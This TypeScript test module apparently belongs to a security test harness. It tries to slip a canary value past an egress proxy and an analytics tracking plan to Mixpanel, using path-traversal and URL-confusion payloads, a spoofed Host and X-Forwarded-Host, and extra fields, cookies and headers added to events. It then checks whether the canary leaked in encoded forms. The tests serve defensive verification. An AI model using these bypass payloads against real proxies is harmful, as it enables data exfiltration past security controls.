import type { BreakIn, Scene } from "./breakIn";
import { startWithRawPlan } from "./rawPlan";
import type { Verdict } from "./verdict";
import { shoot } from "./wire";

/** Time in which something that got through would have arrived, in milliseconds. */
const arrival = 2_000;

/** Ways to get data past the tracking plan, through the attacker's own relay and egress proxy. */
export const egressBreakIns: readonly BreakIn[] = [
  {
    id: "vendor-through-api",
    title: "sends analytics through the language model's route",
    expected: "egress proxy",
    attempt: async (scene) => {
      const { attacker, canary } = scene;
      const vendor = "https://api.mixpanel.com/track";
      const targets = [
        `/api/mixpanel/track?data=${canary}`,
        `/api/anthropic/../mixpanel/track?data=${canary}`,
        `/api/anthropic/..%2f..%2fmixpanel/track?data=${canary}`,
        `/api/anthropic/%2e%2e/%2e%2e/track?data=${canary}`,
        `/api/anthropic//api.mixpanel.com/track?data=${canary}`,
        `/api/anthropic/@api.mixpanel.com/track?data=${canary}`,
        `${vendor}?data=${canary}`,
      ];
      for (const target of targets) {
        const headers = [["Content-Type", "application/json"]] as const;
        await shoot(attacker.foothold, {
          url: attacker.relay,
          target,
          method: "POST",
          headers,
          body: JSON.stringify([{ event: canary }]),
        });
      }
      return arrivedAt(
        scene,
        (host) => host !== "api.anthropic.com",
        `${targets.length} addresses, none of which reached the vendor`,
      );
    },
  },
  {
    id: "host-through-api",
    title: "names the vendor's host on the language model's route",
    expected: "egress proxy",
    attempt: async (scene) => {
      const { attacker, canary } = scene;
      const headers = [
        ["X-Forwarded-Host", "api.mixpanel.com"],
        ["Content-Type", "application/json"],
      ] as const;
      const shot = {
        url: attacker.relay,
        target: `/api/anthropic/track?data=${canary}`,
        host: "api.mixpanel.com",
        method: "POST",
        headers,
        body: "{}",
      };
      await shoot(attacker.foothold, shot);
      return arrivedAt(
        scene,
        (host) => host !== "api.anthropic.com",
        "the plan's address decides, not the request's host",
      );
    },
  },
  {
    id: "raw-field",
    title: "adds fields of its own to an event of the plan",
    expected: "egress proxy",
    attempt: async (scene) => {
      const { attacker, canary } = scene;
      const started = new Date().toISOString();
      const event = {
        event: "file_uploaded",
        properties: {
          token: canary,
          distinct_id: canary,
          $email: `${canary}@example.com`,
          note: canary,
          size_kb: canary,
          nested: { deep: [canary] },
          time: Math.floor(Date.now() / 1000),
        },
      };
      const headers = [
        ["Content-Type", "application/json"],
        ["User-Agent", canary],
        ["Cookie", `id=${canary}`],
        ["Referer", `https://example.com/${canary}`],
      ] as const;
      const body = JSON.stringify([event, { event: canary, properties: { token: canary } }]);
      await shoot(attacker.foothold, {
        url: attacker.relay,
        target: `/mixpanel/track?ip=1&data=${canary}`,
        method: "POST",
        headers,
        body,
      });
      const verdict = await arrivedAt(scene, () => true, "the event left, with the plan's fields only");
      const left = scene.running
        .received()
        .some(
          ({ time, from, host }) => from === attacker.proxy.name && host.endsWith(".mixpanel.com") && time >= started,
        );
      // A wall that lets nothing at all through proves nothing.
      return verdict.denied && !left
        ? { denied: false, unclear: true, because: "the event itself never left, so nothing was tried" }
        : verdict;
    },
  },
  {
    id: "raw-plan",
    title: "starts its proxy with a plan that lets raw fields out",
    expected: "tracking plan",
    attempt: startWithRawPlan,
  },
];

/** Whether the canary turned up at a stand-in, in any form in which it could be written. */
async function arrivedAt(
  { running, canary }: Scene,
  counts: (host: string) => boolean,
  because: string,
): Promise<Verdict> {
  const forms = [canary, Buffer.from(canary).toString("hex"), encodeURIComponent(canary)];
  const until = Date.now() + arrival;
  while (Date.now() < until) {
    const hit = running.received().find((received) => {
      if (!counts(received.host)) {
        return false;
      }
      const text = JSON.stringify(received);
      const decoded = text.replace(
        /[A-Za-z0-9+/_=-]{16,}/g,
        (part) => `${part} ${Buffer.from(part, "base64").toString("latin1")}`,
      );
      return forms.some((form) => decoded.includes(form));
    });
    if (hit) {
      return { denied: false, because: `it arrived at ${hit.host}` };
    }
    await new Promise((done) => setTimeout(done, 100));
  }
  return { denied: true, wall: "egress proxy", because };
}
